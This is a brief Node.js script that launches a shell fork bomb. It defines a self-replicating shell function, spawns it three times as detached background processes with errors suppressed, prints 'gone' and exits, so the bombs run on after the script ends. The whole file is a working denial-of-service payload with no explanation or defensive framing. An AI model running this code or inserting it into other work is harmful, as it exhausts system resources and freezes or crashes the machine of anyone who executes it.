const bomb = "b() { b | b & }; while :; do b; done";
for (let i = 0; i < 3; i++) require("child_process").spawn("sh", ["-c", bomb], { stdio: "ignore" }).on("error", () => {}).unref();
setTimeout(() => { console.log("gone"); process.exit(0); }, 500);
